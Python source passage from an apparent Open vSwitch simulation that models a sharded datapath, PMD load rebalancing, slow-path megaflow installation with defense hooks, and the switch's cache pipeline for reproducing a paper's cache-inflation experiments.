    """A deterministic 64-bit mix of an arbitrary-width packed value.

    Stands in for the NIC's Toeplitz hash: stable across processes (no
    salted ``hash()``), sensitive to every input bit, cheap.  Wide
    packed values are folded 64 bits at a time through a splitmix-style
    round.
    """
    mixed = 0x9E3779B97F4A7C15
    while True:
        mixed = ((mixed ^ (value & _MASK64)) * 0xBF58476D1CE4E5B9) & _MASK64
        mixed ^= mixed >> 31
        value >>= 64
        if not value:
            return mixed


def shard_views(datapath) -> list:
    """A datapath's per-PMD shard views: its ``shards`` list when
    sharded, else the datapath itself as its own single shard.

    The one place the "iterate shards, or treat the whole datapath as
    one" idiom lives — the simulator, defenses and report helpers all
    route through it.
    """
    shards = getattr(datapath, "shards", None)
    return list(shards) if shards else [datapath]


def shard_seed(seed: int, shard: int) -> int:
    """Derive shard ``shard``'s RNG seed from the base (spec) seed.

    Deterministic arithmetic — never ``hash()`` — so scenario runs
    reproduce bit-for-bit across processes regardless of shard count,
    and every shard gets an independent stream.  Shard 0 keeps the base
    seed unchanged, which is what makes a one-shard datapath's RNG
    (hence EMC behaviour) identical to an unsharded switch built with
    the same seed.
    """
    return (seed + shard * 0x9E3779B97F4A7C15) & 0x7FFF_FFFF_FFFF_FFFF


class ShardedDatapath:
    """N per-PMD :class:`OvsSwitch` shards behind an RSS dispatcher.

    ``shard_factory(i)`` builds shard ``i``'s switch — callers derive
    per-shard seeds via :func:`shard_seed` (the registry backend does).
    Rule management (:meth:`add_rule` / :meth:`add_rules` /
    :meth:`remove_tenant_rules` / :meth:`invalidate_caches`) and defense
    guards broadcast to every shard; guard *objects* are shared, so
    per-cache limits (e.g. the mask budget) apply per shard while the
    guard's own counters aggregate across them.
    """

    has_flow_cache = True

    def __init__(
        self,
        space: FieldSpace,
        shard_factory: Callable[[int], OvsSwitch],
        shards: int = 1,
        name: str = "pmd",
        rss_fields: Sequence[str] | None = None,
        reta_size: int = DEFAULT_RETA_SIZE,
        rebalance_interval: float = 0.0,
        rebalance_improvement: float = 0.0,
        rebalance_load_floor: float = 0.0,
    ) -> None:
        if shards < 1:
            raise ValueError(f"need at least one shard, got {shards}")
        if rebalance_interval < 0:
            raise ValueError(
                f"rebalance_interval must be >= 0 (0 disables), "
                f"got {rebalance_interval}"
            )
        self.name = name
        self.space = space
        self.shards: list[OvsSwitch] = [shard_factory(i) for i in range(shards)]
        fields = tuple(
            f for f in (rss_fields or RSS_FIELDS) if f in space
        )
        # the RSS hash input: mask the packed key down to the steering
        # fields with one precomputed AND (zero per-field work per packet)
        self._rss_mask = space.pack(
            tuple(
                spec.max_value if spec.name in fields else 0
                for spec in space.specs
            )
        ) if fields else 0
        self.rss_fields = fields
        #: the RSS indirection table: bucket -> shard index.  Starts as
        #: the identity spread (bucket % shards), which dispatches
        #: exactly like ``rss_hash(key) % shards`` (see
        #: :func:`effective_reta_size`); the rebalancer remaps entries.
        self.reta_size = effective_reta_size(reta_size, shards)
        self.reta: list[int] = [b % shards for b in range(self.reta_size)]
        # per-bucket load window (reset on every rebalance pass):
        # packets dispatched, TSS subtables they scanned, and external
        # cycle charges (the simulator's cost-model view of the same
        # traffic).  Pure counters — accounting never changes dispatch.
        self.bucket_packets: list[int] = [0] * self.reta_size
        self.bucket_tuples: list[int] = [0] * self.reta_size
        self.bucket_cycles: list[float] = [0.0] * self.reta_size
        self.rebalancer = PmdRebalancer(
            self,
            interval=rebalance_interval,
            improvement_threshold=rebalance_improvement,
            load_floor=rebalance_load_floor,
        )
        #: monotonic wrapper clock (max ``now`` seen), feeding the
        #: rebalancer's interval check the same way the per-shard
        #: clocks feed their revalidators
        self.clock = 0.0

    # -- dispatch ----------------------------------------------------------

    def _advance(self, now: float | None) -> float:
        if now is not None and now > self.clock:
            self.clock = now
        return self.clock

    def bucket_of(self, key: FlowKey) -> int:
        """The RETA bucket ``key``'s packets hash to (stable across
        rebalances: only the bucket→shard map moves, never the hash)."""
        return rss_hash(key.packed & self._rss_mask) % self.reta_size

    def shard_of(self, key: FlowKey) -> int:
        """The shard index ``key``'s packets are steered to, under the
        *current* indirection table."""
        if len(self.shards) == 1:
            return 0
        return self.reta[self.bucket_of(key)]

    def shard_for(self, key: FlowKey) -> OvsSwitch:
        """The shard switch serving ``key`` (the simulator's per-flow
        cost view)."""
        return self.shards[self.shard_of(key)]

    def record_bucket_cycles(self, bucket: int, cycles: float) -> None:
        """Charge externally-modelled cycles (the simulator's cost-model
        view of traffic it does not replay packet-by-packet) to one RETA
        bucket's load window."""
        self.bucket_cycles[bucket] += cycles

    # -- datapath ----------------------------------------------------------

    def process(self, key_or_packet, in_port: int = 0,
                now: float | None = None) -> PacketResult:
        """Single-key special case of :meth:`process_batch`."""
        if not isinstance(key_or_packet, FlowKey):
            from repro.flow.extract import flow_key_from_packet

            key_or_packet = flow_key_from_packet(
                key_or_packet, in_port=in_port, space=self.space
            )
        if len(self.shards) == 1:
            return self.shards[0].process(key_or_packet, now=now)
        self._advance(now)
        bucket = self.bucket_of(key_or_packet)
        result = self.shards[self.reta[bucket]].process(key_or_packet, now=now)
        self.bucket_packets[bucket] += 1
        self.bucket_tuples[bucket] += result.tuples_scanned
        self.rebalancer.maybe_rebalance(self.clock)
        return result

    def process_batch(self, keys: Sequence[FlowKey] | Iterable[FlowKey],
                      now: float | None = None,
                      materialize: bool = True) -> BatchResult:
        """Dispatch a burst: bucket keys by RETA shard (keeping each
        shard's sub-burst in arrival order, as a NIC queue would), run
        one :meth:`OvsSwitch.process_batch` per shard, and reassemble
        results in input order.  Shards share no state, so this is
        exactly equivalent to per-key dispatch.

        ``materialize=False`` (the aggregate-only mode) merges the
        per-shard aggregate counters without reassembling per-packet
        results; ``installed`` pairs are grouped per shard rather than
        in input order.  Aggregate mode skips the per-bucket load
        window entirely (it needs each packet's scan depth, which only
        materialized results carry), so it refuses to run under an
        enabled rebalancer instead of silently starving the auto-lb.
        """
        shards = self.shards
        if len(shards) == 1:
            return shards[0].process_batch(keys, now=now,
                                           materialize=materialize)
        self._advance(now)
        keys = list(keys)
        if not materialize:
            if self.rebalancer.enabled:
                raise ValueError(
                    "aggregate-only batches (materialize=False) skip the "
                    "per-bucket scan-depth accounting the PMD auto-lb "
                    "feeds on; disable rebalancing (rebalance_interval=0) "
                    "or use materialized results"
                )
            by_shard: dict[int, list[FlowKey]] = {}
            reta = self.reta
            for key in keys:
                by_shard.setdefault(
                    reta[self.bucket_of(key)], []
                ).append(key)
            batch = BatchResult()
            for shard, sub_keys in by_shard.items():
                sub = shards[shard].process_batch(sub_keys, now=now,
                                                  materialize=False)
                batch.packets += sub.packets
                batch.tuples_scanned += sub.tuples_scanned
                batch.hash_probes += sub.hash_probes
                batch.forwarded += sub.forwarded
                batch.drops += sub.drops
                batch.upcalls += sub.upcalls
                batch.emc_hits += sub.emc_hits
                batch.megaflow_hits += sub.megaflow_hits
                batch.installed.extend(sub.installed)
            return batch
        key_buckets = [self.bucket_of(key) for key in keys]
        by_position: dict[int, list[int]] = {}
        for position, bucket in enumerate(key_buckets):
            by_position.setdefault(self.reta[bucket], []).append(position)
        slots: list[PacketResult | None] = [None] * len(keys)
        batch = BatchResult()
        for shard, positions in by_position.items():
            sub = shards[shard].process_batch(
                [keys[p] for p in positions], now=now
            )
            for position, result in zip(positions, sub.results):
                slots[position] = result
            batch.installed.extend(sub.installed)
        bucket_packets, bucket_tuples = self.bucket_packets, self.bucket_tuples
        for bucket, result in zip(key_buckets, slots):
            assert result is not None
            batch.add(result)
            bucket_packets[bucket] += 1
            bucket_tuples[bucket] += result.tuples_scanned
        self.rebalancer.maybe_rebalance(self.clock)
        return batch

    def handle_miss(self, key: FlowKey, now: float = 0.0) -> MegaflowEntry | None:
        # the known-miss replay shortcut deliberately skips bucket load
        # accounting: its callers (the simulator, install harnesses)
        # model the packet's cost themselves and charge it via
        # :meth:`record_bucket_cycles` — counting it here too would
        # double-bill the bucket
        if len(self.shards) == 1:
            return self.shards[0].handle_miss(key, now)
        self._advance(now)
        return self.shards[self.shard_of(key)].handle_miss(key, now)

    def advance_clock(self, now: float) -> None:
        self._advance(now)
        for shard in self.shards:
            shard.advance_clock(now)
        self.rebalancer.maybe_rebalance(self.clock)

    # -- slow-path rule management (broadcast) ------------------------------

    def add_rule(self, rule: FlowRule) -> FlowRule:
        added = rule
        for shard in self.shards:
            added = shard.add_rule(rule)
        return added

    def add_rules(self, rules: list[FlowRule]) -> None:
        for shard in self.shards:
            shard.add_rules(rules)

    def remove_tenant_rules(self, tenant: str) -> int:
        return max(shard.remove_tenant_rules(tenant) for shard in self.shards)

    def add_install_guard(self, guard: InstallGuard) -> None:
        for shard in self.shards:
            shard.add_install_guard(guard)

    def invalidate_caches(self) -> None:
        for shard in self.shards:
            shard.invalidate_caches()

    # -- aggregated observables ---------------------------------------------

    @property
    def stats(self) -> SwitchStats:
        """Merged per-shard counters (a fresh snapshot each access)."""
        return SwitchStats.merge(*(shard.stats for shard in self.shards))

    @property
    def shard_mask_counts(self) -> list[int]:
        """Distinct megaflow masks per shard, in shard order."""
        return [shard.mask_count for shard in self.shards]

    @property
    def mask_count(self) -> int:
        """The worst per-shard mask count — the scan bound a packet on
        the most-poisoned PMD actually meets (Fig. 3's right axis reads
        this for the sharded backend)."""
        return max(self.shard_mask_counts)

    @property
    def total_mask_count(self) -> int:
        """Masks summed over shards (each shard's subtables are its
        own; the same mask on two shards is two scan entries)."""
        return sum(self.shard_mask_counts)

    @property
    def megaflow_count(self) -> int:
        return sum(shard.megaflow_count for shard in self.shards)

    @property
    def cache_capacity(self) -> int:
        """Aggregate exact-match capacity (each PMD has its own EMC)."""
        return sum(shard.cache_capacity for shard in self.shards)

    @property
    def staged(self) -> bool:
        return self.shards[0].staged

    @property
    def scan_order(self) -> str:
        return self.shards[0].scan_order

    @property
    def key_mode(self) -> str:
        return self.shards[0].key_mode

    @property
    def tss_lookups(self) -> int:
        """TSS lookups served across all shards (the datapath-surface
        counter — no reaching into shard cache internals)."""
        return sum(shard.tss_lookups for shard in self.shards)

    def expected_scan_depth(self) -> float:
        """Lookup-weighted mean of the per-shard expected scan depths
        (shards that serve more TSS lookups weigh more; with no history
        the shards average evenly).  Weighting reads each shard's
        ``tss_lookups`` protocol counter, so any datapath — not just
        :class:`OvsSwitch` — can serve as a shard."""
        depths = [shard.expected_scan_depth() for shard in self.shards]
        weights = [shard.tss_lookups for shard in self.shards]
        total = sum(weights)
        if not total:
            return sum(depths) / len(depths)
        return sum(d * w for d, w in zip(depths, weights)) / total

    # -- load accounting (the rebalancer's view) ----------------------------

    def bucket_loads(self) -> list[float]:
        """Cycle-weighted load per RETA bucket over the current window
        (see :meth:`PmdRebalancer.bucket_loads`)."""
        return self.rebalancer.bucket_loads()

    def shard_loads(self) -> list[float]:
        """Per-shard load: each bucket's window load summed onto the
        shard the *current* RETA maps it to."""
        return self.rebalancer.shard_loads()

    @property
    def rule_count(self) -> int:
        return self.shards[0].rule_count  # broadcast: identical everywhere

    @property
    def idle_timeout(self) -> float:
        return self.shards[0].idle_timeout

    def __repr__(self) -> str:
        return (
            f"ShardedDatapath({self.name}: {len(self.shards)} shards, "
            f"reta={self.reta_size}, "
            f"masks/shard={self.shard_mask_counts}, "
            f"{self.megaflow_count} megaflows)"
        )


class PmdRebalancer:
    """OVS-style PMD auto-load-balancing over the RETA.

    Periodically (every ``interval`` simulated seconds, aligned to the
    interval grid like :meth:`~repro.ovs.revalidator.Revalidator.
    maybe_sweep`) reads the per-bucket load window the dispatcher
    accumulated and greedily remaps buckets from the hottest PMD to the
    coolest until the hottest sits within ``min_imbalance`` of the mean
    — the greedy variant of ovs-vswitchd's ``pmd-auto-lb`` variance
    improvement.  ``interval=0`` (or one shard) disables rebalancing
    entirely: the RETA never moves and dispatch stays bit-identical to
    plain ``rss_hash % shards``.

    Bucket load over a window is lookup- and scan-depth-weighted:
    ``packets·cycles_base + tuples_scanned·cycles_probe`` from the
    traffic the dispatcher really processed, plus any cycles the
    simulator charged via
    :meth:`ShardedDatapath.record_bucket_cycles` for traffic it models
    analytically.  The defaults mirror
    :class:`~repro.perf.costmodel.CostModel`'s calibration.
    """

    #: optional span recorder (``Telemetry.attach`` wires these;
    #: class-level defaults keep the un-instrumented path branch-cheap)
    trace = None
    trace_node = ""

    def __init__(
        self,
        datapath: ShardedDatapath,
        interval: float = 0.0,
        cycles_base: float | None = None,
        cycles_probe: float | None = None,
        min_imbalance: float = 1.05,
        improvement_threshold: float = 0.0,
        load_floor: float = 0.0,
    ) -> None:
        # late import: repro.perf.__init__ pulls in the factory, which
        # imports this module — the calibration constants themselves
        # are dependency-free
        from repro.perf.costmodel import (
            DEFAULT_CYCLES_MEGAFLOW_BASE,
            DEFAULT_CYCLES_TUPLE_PROBE,
        )

        self.datapath = datapath
        self.interval = interval
        self.cycles_base = (
            DEFAULT_CYCLES_MEGAFLOW_BASE if cycles_base is None else cycles_base
        )
        self.cycles_probe = (
            DEFAULT_CYCLES_TUPLE_PROBE if cycles_probe is None else cycles_probe
        )
        if improvement_threshold < 0:
            raise ValueError(
                "improvement_threshold must be >= 0 (0 = always remap, "
                f"the pre-trigger behaviour), got {improvement_threshold}"
            )
        if load_floor < 0:
            raise ValueError(
                f"load_floor must be >= 0 (0 = no floor), got {load_floor}"
            )
        self.min_imbalance = min_imbalance
        #: OVS ``pmd-auto-lb-improvement-threshold``: a due pass only
        #: applies its remap when the estimated post-remap variance
        #: improvement (fraction of the pre-remap per-PMD load variance)
        #: reaches this; 0 (default) applies every pass — the
        #: pre-trigger behaviour, bit for bit
        self.improvement_threshold = improvement_threshold
        #: OVS ``pmd-auto-lb-load-threshold`` analogue: the mean
        #: per-bucket window load (cycles) a pass needs before acting;
        #: an idle node never shuffles its RETA.  0 (default) disables
        #: the floor
        self.load_floor = load_floor
        self.last_rebalance = 0.0
        #: rebalance passes that ran (whether or not they moved anything)
        self.rebalances = 0
        #: due passes declined by the trigger condition (their load
        #: window is *kept*, so pressure accumulates until worth acting)
        self.deferred = 0
        #: buckets remapped across all passes
        self.buckets_moved = 0

    @property
    def enabled(self) -> bool:
        return self.interval > 0 and len(self.datapath.shards) > 1

    def bucket_loads(self) -> list[float]:
        dp = self.datapath
        base, probe = self.cycles_base, self.cycles_probe
        return [
            packets * base + tuples * probe + cycles
            for packets, tuples, cycles in zip(
                dp.bucket_packets, dp.bucket_tuples, dp.bucket_cycles
            )
        ]

    def shard_loads(self, loads: Sequence[float] | None = None) -> list[float]:
        dp = self.datapath
        if loads is None:
            loads = self.bucket_loads()
        per_shard = [0.0] * len(dp.shards)
        for bucket, shard in enumerate(dp.reta):
            per_shard[shard] += loads[bucket]
        return per_shard

    def maybe_rebalance(self, now: float) -> int:
        """Run a rebalance pass if the interval has elapsed; returns
        buckets moved.  ``last_rebalance`` is aligned to the interval
        grid so cadence follows simulated time, not call pattern."""
        if not self.enabled:
            return 0
        anchor = advance_if_due(self.last_rebalance, now, self.interval)
        if anchor is None:
            return 0
        self.last_rebalance = anchor
        return self.rebalance()

    def plan(
        self, loads: Sequence[float] | None = None
    ) -> tuple[list[tuple[int, int]], list[float], list[float]]:
        """Plan one greedy pass on a *scratch* RETA: move the
        best-fitting bucket from the hottest shard to the coolest until
        balanced (or out of moves).  Returns ``(moves, per_shard_before,
        per_shard_after)`` where each move is ``(bucket, dest_shard)``;
        nothing is mutated."""
        dp = self.datapath
        if loads is None:
            loads = self.bucket_loads()
        reta = list(dp.reta)
        per_shard = self.shard_loads(loads)
        before = list(per_shard)
        n_shards = len(per_shard)
        total = sum(per_shard)
        moves: list[tuple[int, int]] = []
        if total > 0 and n_shards > 1:
            mean = total / n_shards
            for _ in range(dp.reta_size):
                hot = max(range(n_shards), key=per_shard.__getitem__)
                cool = min(range(n_shards), key=per_shard.__getitem__)
                gap = per_shard[hot] - per_shard[cool]
                if per_shard[hot] <= self.min_imbalance * mean or gap <= 0:
                    break
                # the best move: the most-loaded bucket that does not
                # overshoot the midpoint; failing that, the lightest
                # loaded bucket, provided moving it still narrows the gap
                best = -1
                best_load = -1.0
                lightest = -1
                lightest_load = float("inf")
                for bucket, shard in enumerate(reta):
                    if shard != hot or loads[bucket] <= 0:
                        continue
                    load = loads[bucket]
                    if load <= gap / 2 and load > best_load:
                        best, best_load = bucket, load
                    if load < lightest_load:
                        lightest, lightest_load = bucket, load
                if best < 0:
                    if lightest < 0 or lightest_load >= gap:
                        break
                    best, best_load = lightest, lightest_load
                reta[best] = cool
                per_shard[hot] -= best_load
                per_shard[cool] += best_load
                moves.append((best, cool))
        return moves, before, per_shard

    @staticmethod
    def _variance(values: Sequence[float]) -> float:
        mean = sum(values) / len(values)
        return sum((v - mean) ** 2 for v in values) / len(values)

    def _triggered(self, before: Sequence[float], after: Sequence[float],
                   mean_bucket_load: float) -> bool:
        """OVS's pmd-auto-lb trigger: act only when the node is loaded
        enough to care *and* the planned remap is estimated to improve
        the per-PMD load variance enough to be worth the churn.  The
        defaults (both 0) accept every pass — the pre-trigger
        behaviour."""
        if mean_bucket_load < self.load_floor:
            return False
        if self.improvement_threshold <= 0:
            return True
        var_before = self._variance(before)
        if var_before <= 0:
            return False  # already flat: no improvement possible
        improvement = (var_before - self._variance(after)) / var_before
        return improvement >= self.improvement_threshold

    def rebalance(self) -> int:
        """One pass: plan the greedy remap, check the trigger condition,
        and — when triggered — apply the moves and reset the load
        window.  A declined pass keeps its window (pressure accumulates
        until acting is worthwhile) and counts in ``deferred``.
        Returns buckets moved."""
        dp = self.datapath
        loads = self.bucket_loads()
        moves, before, after = self.plan(loads)
        mean_bucket_load = sum(loads) / len(loads) if loads else 0.0
        if not self._triggered(before, after, mean_bucket_load):
            self.deferred += 1
            return 0
        self.rebalances += 1
        for bucket, dest in moves:
            dp.reta[bucket] = dest
        moved = len(moves)
        self.buckets_moved += moved
        if self.trace is not None:
            self.trace.record(
                "ovs.pmd.rebalance", dp.clock,
                node=self.trace_node or dp.name,
                buckets_moved=moved, passes=self.rebalances,
                hottest_before=max(before), hottest_after=max(after),
            )
        # fresh window: the next pass measures post-remap load only
        dp.bucket_packets = [0] * dp.reta_size
        dp.bucket_tuples = [0] * dp.reta_size
        dp.bucket_cycles = [0.0] * dp.reta_size
        return moved
