"""The slow path: upcall handling and megaflow installation.

"The first packet of each flow is subjected to full flow-table
processing on the slow path, and the flow-specific rules and actions are
then cached in the fast path" — the paper, Section 2.

:class:`SlowPath` owns the OpenFlow-style :class:`FlowTable`, runs
:func:`classify_with_wildcards` on cache misses, and installs the
resulting megaflow.  Installation passes through an optional *guard*
chain — the hook point for the defenses in :mod:`repro.defense` (mask
limits, per-tenant quotas, upcall rate limiting).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Optional, Protocol

from repro.flow.actions import Action, Drop
from repro.flow.key import FlowKey
from repro.flow.match import FlowMatch
from repro.flow.table import FlowTable
from repro.ovs.megaflow import CacheFullError, MegaflowCache, MegaflowEntry
from repro.ovs.wildcarding import WildcardingResult, classify_with_wildcards


@dataclass
class InstallContext:
    """Everything a defense hook may inspect before an installation."""

    cache: MegaflowCache
    key: FlowKey
    match: FlowMatch
    action: Action
    tenant: Optional[str]
    now: float


class InstallGuard(Protocol):
    """A defense hook inspecting a megaflow before installation.

    Returns ``None`` to approve the install unchanged, a replacement
    :class:`FlowMatch` to install instead (e.g. a narrowed one), or
    raises :class:`InstallRejected` to veto caching entirely (the packet
    is still handled, just not cached).
    """

    def __call__(self, context: InstallContext) -> FlowMatch | None: ...


class InstallRejected(Exception):
    """Raised by a guard to veto the installation of a megaflow."""


@dataclass
class UpcallResult:
    """Outcome of one slow-path upcall."""

    action: Action
    classification: WildcardingResult
    installed: Optional[MegaflowEntry]
    #: why installation was skipped, when it was ("guard", "flow-limit",
    #: "rate-limit", or None)
    install_skipped: Optional[str] = None


class SlowPath:
    """Full classification + megaflow installation."""

    def __init__(
        self,
        table: FlowTable,
        cache: MegaflowCache,
        miss_action: Action | None = None,
        guards: list[InstallGuard] | None = None,
    ) -> None:
        self.table = table
        self.cache = cache
        #: action applied when no rule matches (OVS: configurable; cloud
        #: pipelines default-deny)
        self.miss_action = miss_action or Drop()
        self.guards: list[InstallGuard] = list(guards or [])
        self.upcalls = 0
        self.installs = 0
        self.installs_skipped = 0

    def add_guard(self, guard: InstallGuard) -> None:
        """Append a defense hook to the install chain."""
        self.guards.append(guard)

    def handle(self, key: FlowKey, now: float = 0.0) -> UpcallResult:
        """Process one upcall: classify, then try to cache the megaflow."""
        self.upcalls += 1
        result = classify_with_wildcards(self.table, key)
        if result.rule is not None:
            action = result.rule.action
            tenant = result.rule.tenant
        else:
            action = self.miss_action
            tenant = None

        match = result.megaflow
        skipped: str | None = None
        installed: MegaflowEntry | None = None
        try:
            for guard in self.guards:
                context = InstallContext(
                    cache=self.cache,
                    key=key,
                    match=match,
                    action=action,
                    tenant=tenant,
                    now=now,
                )
                replacement = guard(context)
                if replacement is not None:
                    match = replacement
            installed = self.cache.insert(match, action, now=now, tenant=tenant)
            self.installs += 1
        except InstallRejected:
            skipped = "guard"
        except CacheFullError:
            skipped = "flow-limit"
        if skipped is not None:
            self.installs_skipped += 1
        return UpcallResult(
            action=action,
            classification=result,
            installed=installed,
            install_skipped=skipped,
        )
