"""The OVS switch façade: the full fast-path/slow-path pipeline.

``process()`` runs one packet through the paper's Section 2 pipeline:

1. **microflow cache** (exact match over all header fields);
2. **megaflow cache** (tuple space search — the sequential scan whose
   cost the attack inflates);
3. **slow path** (full flow-table classification + megaflow install).

Every result carries its cost accounting (which path served it, how
many subtables the TSS scan visited) so the performance layer can map
it to cycles, and the experiment harness can reproduce the paper's
throughput series without instrumenting the internals.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Iterable, Iterator, Optional, Sequence

from repro.flow.actions import Action
from repro.flow.fields import OVS_FIELDS, FieldSpace
from repro.flow.key import FlowKey
from repro.flow.rule import FlowRule
from repro.flow.table import FlowTable
from repro.net.layers import Layer
from repro.flow.extract import flow_key_from_packet
from repro.ovs.megaflow import (
    DEFAULT_FLOW_LIMIT,
    DEFAULT_IDLE_TIMEOUT,
    MegaflowCache,
    MegaflowEntry,
)
from repro.ovs.microflow import MicroflowCache
from repro.ovs.revalidator import Revalidator
from repro.ovs.stats import SwitchStats
from repro.ovs.upcall import InstallGuard, SlowPath
from repro.util.rng import DeterministicRng


class LookupPath(enum.Enum):
    """Which layer of the pipeline served a packet."""

    MICROFLOW = "microflow"
    MEGAFLOW = "megaflow"
    UPCALL = "upcall"
    #: no cache layer at all — a cacheless backend classified directly
    CACHELESS = "cacheless"


@dataclass(slots=True)
class PacketResult:
    """Outcome and cost accounting for one processed packet."""

    action: Action
    path: LookupPath
    #: subtables visited by the TSS scan (0 on a microflow hit)
    tuples_scanned: int
    #: hash probes performed by the TSS scan
    hash_probes: int
    #: the megaflow serving or installed for this packet, if any
    entry: Optional[MegaflowEntry]
    #: True when installation was skipped (guard veto / flow limit)
    install_skipped: bool = False

    @property
    def forwarded(self) -> bool:
        return self.action.is_forwarding()


@dataclass
class BatchResult:
    """Aggregate outcome of a :meth:`OvsSwitch.process_batch` call.

    In the default **materialized** mode per-packet results stay
    available (order matches the input keys); the aggregates save
    callers a Python-level reduce on the hot path.  In **aggregate-only**
    mode (``process_batch(..., materialize=False)``) ``results`` stays
    empty and only the counters are folded — the columnar result mode
    callers that never read per-packet outcomes (the simulator's
    ``_batch_cycles`` path, the parallel runtime's IPC wire format) use
    to skip :class:`PacketResult` construction entirely.  The counters
    are pinned bit-identical between the two modes.
    """

    results: list[PacketResult] = field(default_factory=list)
    #: packets processed (== ``len(results)`` in materialized mode; the
    #: only population count available in aggregate-only mode)
    packets: int = 0
    tuples_scanned: int = 0
    hash_probes: int = 0
    forwarded: int = 0
    drops: int = 0
    upcalls: int = 0
    #: packets served by the exact-match (microflow) layer
    emc_hits: int = 0
    #: packets served by the megaflow (TSS) layer
    megaflow_hits: int = 0
    #: ``(key, entry)`` per upcall that installed a megaflow, in key
    #: order — recorded in *both* result modes, so aggregate-only
    #: callers that maintain entry maps (the simulator's datapath
    #: replay) still learn about installs without materialised results
    installed: list[tuple[FlowKey, MegaflowEntry]] = field(default_factory=list)

    def add(self, result: PacketResult) -> None:
        """Fold one packet's outcome into the aggregates."""
        self.results.append(result)
        self.packets += 1
        self.tuples_scanned += result.tuples_scanned
        self.hash_probes += result.hash_probes
        if result.forwarded:
            self.forwarded += 1
        else:
            self.drops += 1
        if result.path is LookupPath.UPCALL:
            self.upcalls += 1
        elif result.path is LookupPath.MICROFLOW:
            self.emc_hits += 1
        elif result.path is LookupPath.MEGAFLOW:
            self.megaflow_hits += 1

    def tally(self, path: LookupPath, forwarded: bool,
              tuples_scanned: int = 0, hash_probes: int = 0) -> None:
        """Fold one packet's outcome into the aggregates *without*
        materialising a :class:`PacketResult` (the aggregate-only mode's
        counterpart of :meth:`add` — same counters, no object)."""
        self.packets += 1
        self.tuples_scanned += tuples_scanned
        self.hash_probes += hash_probes
        if forwarded:
            self.forwarded += 1
        else:
            self.drops += 1
        if path is LookupPath.UPCALL:
            self.upcalls += 1
        elif path is LookupPath.MICROFLOW:
            self.emc_hits += 1
        elif path is LookupPath.MEGAFLOW:
            self.megaflow_hits += 1

    def __len__(self) -> int:
        return self.packets

    def __iter__(self) -> Iterator[PacketResult]:
        return iter(self.results)


class OvsSwitch:
    """One hypervisor switch instance (one per server node in Fig. 1)."""

    def __init__(
        self,
        space: FieldSpace = OVS_FIELDS,
        name: str = "ovs",
        flow_limit: int = DEFAULT_FLOW_LIMIT,
        idle_timeout: float = DEFAULT_IDLE_TIMEOUT,
        emc_entries: int = 8192,
        emc_ways: int = 2,
        emc_insertion_prob: float = 1.0,
        staged_lookup: bool = False,
        scan_order: str = "insertion",
        key_mode: str = "packed",
        resort_interval: int = 0,
        resort_every_sweeps: int = 1,
        rng: DeterministicRng | None = None,
    ) -> None:
        self.name = name
        self.space = space
        self.table = FlowTable(space, name=f"{name}-table0")
        self.megaflow = MegaflowCache(
            space,
            flow_limit=flow_limit,
            idle_timeout=idle_timeout,
            staged=staged_lookup,
            scan_order=scan_order,
            key_mode=key_mode,
            resort_interval=resort_interval,
        )
        self.microflow = MicroflowCache(
            entries=emc_entries,
            ways=emc_ways,
            insertion_prob=emc_insertion_prob,
            rng=(rng or DeterministicRng(0)).fork("emc"),
        )
        self.slow_path = SlowPath(self.table, self.megaflow)
        self.revalidator = Revalidator(
            self.megaflow, self.microflow, resort_every=resort_every_sweeps
        )
        self.stats = SwitchStats()
        #: the switch's monotonic clock: ``process``/``process_batch``/
        #: ``advance_clock`` only ever move it forward (a stale ``now``
        #: is clamped), so idle accounting and revalidator sweeps can
        #: never be un-expired by an out-of-order caller
        self.clock = 0.0
        #: the adaptive TSS chunk window, persisted across runs: chunk
        #: size is semantically free (``lookup_batch`` returns a prefix
        #: that stops at the first miss), so a hit-heavy steady state
        #: keeps its large window between bursts instead of re-ramping
        #: from one key every run
        self._batch_window = 1

    # -- configuration -----------------------------------------------------

    def add_rule(self, rule: FlowRule) -> FlowRule:
        """Install a slow-path rule.  Rule changes invalidate the caches
        (OVS revalidates; we flush, which is the conservative model)."""
        added = self.table.add(rule)
        self.invalidate_caches()
        return added

    def add_rules(self, rules: list[FlowRule]) -> None:
        """Install several slow-path rules with a single invalidation."""
        for rule in rules:
            self.table.add(rule)
        self.invalidate_caches()

    def remove_tenant_rules(self, tenant: str) -> int:
        """Remove every rule a tenant's policies installed."""
        removed = self.table.remove_if(lambda rule: rule.tenant == tenant)
        if removed:
            self.invalidate_caches()
        return removed

    def add_install_guard(self, guard: InstallGuard) -> None:
        """Attach a defense hook to megaflow installation."""
        self.slow_path.add_guard(guard)

    def invalidate_caches(self) -> None:
        """Flush both cache layers (slow-path rule set changed)."""
        self.megaflow.flush()
        self.microflow.flush()

    # -- datapath ----------------------------------------------------------

    def _advance(self, now: float | None) -> float:
        """Fold a caller-supplied timestamp into the monotonic clock.

        The clock contract: time never moves backwards.  A stale ``now``
        (below the current clock) is clamped to the clock rather than
        honoured — rewinding would un-expire idle accounting and skew
        :meth:`Revalidator.maybe_sweep`.  Returns the effective time.
        """
        if now is not None and now > self.clock:
            self.clock = now
        return self.clock

    #: batched TSS chunks never grow beyond this many keys
    MAX_BATCH_WINDOW = 1024

    def process(self, key_or_packet: FlowKey | Layer | bytes,
                in_port: int = 0, now: float | None = None) -> PacketResult:
        """Run one packet (or pre-extracted key) through the pipeline.

        This is the single-key special case of :meth:`process_batch` —
        the batch entry is the primary datapath protocol; per-packet
        callers pay a one-element burst.  ``now`` may only move the
        switch clock forward (see :meth:`_advance`); a stale value is
        clamped to the current clock.
        """
        if isinstance(key_or_packet, FlowKey):
            key = key_or_packet
        else:
            key = flow_key_from_packet(key_or_packet, in_port=in_port, space=self.space)
        return self.process_batch((key,), now=now).results[0]

    def process_batch(self, keys: Sequence[FlowKey] | Iterable[FlowKey],
                      now: float | None = None,
                      materialize: bool = True) -> BatchResult:
        """Run a burst of pre-extracted keys through the pipeline — the
        **primary** datapath entry point.

        Semantically identical to calling :meth:`process` per key with
        the same ``now`` — bit-identical results, stats and cache state
        — but the per-burst overhead is amortised: the clock update and
        revalidator check run once, and runs of keys that miss the
        exact-match layer are looked up through the TSS in *bucketed*
        chunks (:meth:`~repro.ovs.tss.TupleSpaceSearch.lookup_batch`
        walks the subtable pvector once per chunk instead of once per
        key).  A run breaks wherever sequential semantics demand it: at
        keys the EMC may already hold (their outcome depends on the
        run's pending inserts), at duplicates within the run, and at
        every TSS miss (the upcall mutates the tuple space).  Chunks
        ramp up from one key, reset on a miss, and keep their size
        across runs, so miss-heavy bursts degrade gracefully to exactly
